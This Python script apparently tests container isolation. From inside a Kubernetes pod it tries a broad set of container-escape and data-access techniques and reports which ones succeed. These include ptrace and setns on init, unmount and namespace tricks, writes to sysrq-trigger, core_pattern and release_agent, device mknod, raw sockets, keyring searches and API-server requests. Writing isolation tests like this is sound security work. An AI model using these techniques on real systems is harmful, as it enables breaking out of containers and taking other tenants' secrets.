"""Tries to get at what belongs to others, in every way it knows, and prints as JSON what it got, by how it got it.

It is told what to look for by a JSON object:

    text       a piece of the secret
    hidden     the data dir of the node
    sockets    Unix sockets of the node
    handle     the kernel's own name of the secret's file: its kind, and the rest in hexadecimal
    abstract   the name of a Unix socket of the machine that has no file
    listening  where the machine would answer, each as host:port
    pids       processes of the machine
    key        the name of a key that whoever started the node has
    api        the path of the secret at the API server
"""

import collections
import ctypes
import errno
import json
import os
import shlex
import socket
import ssl
import stat
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

WANTED = json.loads(sys.argv[1])
TEXT = WANTED["text"].encode()
HIDDEN = Path(WANTED["hidden"])
OWN = Path("/programs/intrude.py")
GIVEN = Path("/var/run/secrets/kubernetes.io/serviceaccount")
PLACES = ("/dev", "/etc", "/home", "/mnt", "/run", "/secret", "/srv", "/tmp", "/var", str(HIDDEN.parent))
USUAL_DEVICES = {
    *("null", "zero", "full", "random", "urandom", "tty", "ptmx", "pts", "shm", "mqueue", "console", "fd"),
    *("stdin", "stdout", "stderr", "core", "termination-log"),
}
CALLS = {
    "x86_64": {"keyctl": 250, "add_key": 248, "reboot": 169, "init_module": 175},
    "aarch64": {"keyctl": 219, "add_key": 217, "reboot": 142, "init_module": 105},
}[os.uname().machine]
KERNEL = ctypes.CDLL(None, use_errno=True)


def files() -> Iterator[str]:
    """Reads what it can below the folders where secrets could be."""
    for place in PLACES:
        for folder, _, names in os.walk(place):
            yield from filter(holds, (f"{folder}/{name}" for name in names))


def data_dir() -> Iterator[str]:
    """Looks into the data dir, from where it is and from the roots of others."""
    for root in ("", "/proc/self/root", "/proc/1/root", "/proc/1/cwd"):
        if is_had(os.listdir, f"{root}{HIDDEN}"):
            yield from os.listdir(f"{root}{HIDDEN}")  # noqa: PTH208 - names will do


def processes() -> Iterator[str]:
    """Looks at processes that are not of its own pod: their variables, files, memory and namespaces."""
    for folder in Path("/proc").glob("[0-9]*"):
        if folder.name != "1" and (folder / "root" / OWN.relative_to("/")).exists():
            continue
        yield from filter(holds, (f"{folder}/environ", f"{folder}/cmdline"))
        for name in ("root", "cwd", "exe", "fd/3", "ns/user", "ns/mnt", "ns/net"):
            if is_had(os.readlink, folder / name):
                yield f"{folder}/{name}"
        if is_had(os.open, folder / "mem", os.O_RDONLY):
            yield f"{folder}/mem"


def init() -> Iterator[str]:
    """Takes over the container's init, which belongs to the node."""
    attach, seize = 16, 0x4206
    for request in (attach, seize):
        if KERNEL.ptrace(request, 1, None, None) == 0:
            yield f"ptrace {request}"
    for kind in ("user", "mnt", "pid", "net", "uts", "ipc", "cgroup"):
        if is_had(enter, f"/proc/1/ns/{kind}"):
            yield f"setns {kind}"


def signals() -> Iterator[str]:
    """Reaches processes of the machine; numbers that are also those of processes here say nothing."""
    for pid in WANTED["pids"]:
        if not Path(f"/proc/{pid}").exists() and is_had(os.kill, pid, 0):
            yield str(pid)


def mounts() -> Iterator[str]:
    """Takes away what covers things, or looks beside it: as it is, and as root of a user namespace of its own."""
    data, above, name = map(shlex.quote, (str(HIDDEN), str(HIDDEN.parent), HIDDEN.name))
    opened = ": >> /proc/sysrq-trigger || : >> /proc/sys/kernel/core_pattern || : >> /sys/kernel/uevent_helper"
    scripts = (
        f"umount -l {data}; ls -A {data} | grep .",
        f"umount -l {above}; ls -A {data} | grep .",
        f"mount --bind {above} /mnt && ls -A /mnt/{name} | grep .",
        f"mount --bind / /mnt && ls -A /mnt/{data} | grep .",
        f"mount --move {data} /mnt && ls -A {data} | grep .",
        f"mount -t overlay -o lowerdir={above}:/etc none /mnt && ls -A /mnt/{name} | grep .",
        opened,
        f"mount -o remount,bind,rw /proc/sys; mount -o remount,bind,rw /proc/sysrq-trigger; {opened}",
        f"umount /proc/sys; umount /proc/sysrq-trigger; mount -o remount,rw /sys; {opened}",
        "mount -t proc none /mnt && : >> /mnt/sysrq-trigger",
        "mount -t sysfs none /mnt && : >> /mnt/kernel/uevent_helper",
        "mount -t debugfs none /mnt || mount -t tracefs none /mnt || mount -t securityfs none /mnt",
        "mount -t cgroup -o pids none /mnt && echo max > /mnt/pids.max",
        "mount -t cgroup -o devices none /mnt && : >> /mnt/release_agent",
        "mknod /tmp/disk b 254 0 && head -c 1 /tmp/disk || mknod /tmp/mem c 1 1 && head -c 1 /tmp/mem",
    )
    as_root = ["unshare", "--user", "--map-root-user", "--mount", "--pid", "--fork"]
    for script in scripts:
        for alone in ([], ["unshare", "--mount"], as_root, [*as_root, "--cgroup", "--net"]):
            done = subprocess.run([*alone, "sh", "-c", script], capture_output=True, check=False, timeout=60)
            if done.returncode == 0:
                yield f"{' '.join(alone)} {script}: {done.stdout[:200]!r}"


def handles() -> Iterator[str]:
    """Opens the secret's file by the name that the kernel has for it, below any mount there is."""
    name = bytes.fromhex(WANTED["handle"]["name"])
    kind = WANTED["handle"]["kind"].to_bytes(4, sys.byteorder, signed=True)
    handle = ctypes.create_string_buffer(len(name).to_bytes(4, sys.byteorder) + kind + name)
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        point = line.split(" ")[4]
        if is_had(os.open, point, os.O_RDONLY):
            found = KERNEL.open_by_handle_at(os.open(point, os.O_RDONLY), handle, os.O_RDONLY)
            if found >= 0 and TEXT in os.read(found, 4096):
                yield point


def devices() -> Iterator[str]:
    """Finds a device of the machine."""
    for path in Path("/dev").iterdir():
        if path.name not in USUAL_DEVICES or (path.exists() and stat.S_ISBLK(path.stat().st_mode)):
            yield path.name


def rights() -> Iterator[str]:
    """Asks the kernel for what only the machine's root may; what would do harm is asked for so that it does none."""
    calls = {"reboot": (0xFEE1DEAD, 672274793, 0, None), "init_module": (None, 0, b"")}
    for name, arguments in calls.items():
        if KERNEL.syscall(CALLS[name], *arguments) == 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
            yield name


def keys() -> Iterator[str]:
    """Looks for a key of whoever started the node, and for one that another pod may have left."""
    search, session, user = 10, ctypes.c_long(-3), ctypes.c_long(-4)
    for keyring in (session, user):
        for name in (WANTED["key"].encode(), b"left by an intruder"):
            if KERNEL.syscall(CALLS["keyctl"], search, keyring, b"user", name, 0) > 0:
                yield name.decode()
    KERNEL.syscall(CALLS["add_key"], b"user", b"left by an intruder", b"x", ctypes.c_size_t(1), session)


def sockets() -> Iterator[str]:
    """Talks to the node, or to anybody on the machine."""
    for place in (*WANTED["sockets"], "\0" + WANTED["abstract"]):
        if is_had(socket.socket(socket.AF_UNIX).connect, place):
            yield place
    for place in WANTED["listening"]:
        host, port = place.rsplit(":", 1)
        asking = socket.socket()
        asking.settimeout(3)
        if is_had(asking.connect, (host, int(port))):
            yield place


def wires() -> Iterator[str]:
    """Listens to what others say in the network, or takes an address that is not its own."""
    for family in (socket.AF_PACKET, socket.AF_INET):
        if is_had(socket.socket, family, socket.SOCK_RAW, 255):
            yield family.name
    for link in ("eth0", "lo", "shoal0"):
        taking = ["ip", "address", "add", "10.88.0.99/16", "dev", link]
        if subprocess.run(taking, capture_output=True, check=False).returncode == 0:
            yield link


def api() -> Iterator[str]:
    """Asks the API server, with its own token."""
    token = {"Authorization": f"Bearer {(GIVEN / 'token').read_text()}"}
    request = urllib.request.Request(f"https://kubernetes.default.svc{WANTED['api']}", headers=token)
    context = ssl.create_default_context(cafile=str(GIVEN / "ca.crt"))
    try:
        with urllib.request.urlopen(request, context=context, timeout=30) as answer:
            yield str(answer.status)
    except urllib.error.HTTPError as error:
        if error.code != 403:
            yield str(error.code)


def enter(namespace: str) -> None:
    if KERNEL.setns(os.open(namespace, os.O_RDONLY), 0):
        raise OSError(ctypes.get_errno(), "cannot be entered")


def holds(path: str) -> bool:
    """Whether a file can be read and has the text in it."""
    try:
        if not path.startswith("/proc/") and not stat.S_ISREG(Path(path).lstat().st_mode):
            return False
        with Path(path).open("rb") as reading:
            return TEXT in reading.read(1024 * 1024)
    except OSError:
        return False


def is_had(action: Callable[..., object], *arguments: object) -> bool:
    try:
        action(*arguments)
    except OSError:
        return False
    return True


if __name__ == "__main__":
    got: dict[str, list[str]] = collections.defaultdict(list)
    for attempt in (
        *(files, data_dir, processes, init, signals, mounts, handles),
        *(devices, rights, keys, sockets, wires, api),
    ):
        try:
            got[attempt.__name__] += list(attempt())
        except Exception as error:
            got[attempt.__name__].append(f"was not finished: {error!r}")
    print(json.dumps({name: found for name, found in got.items() if found}))
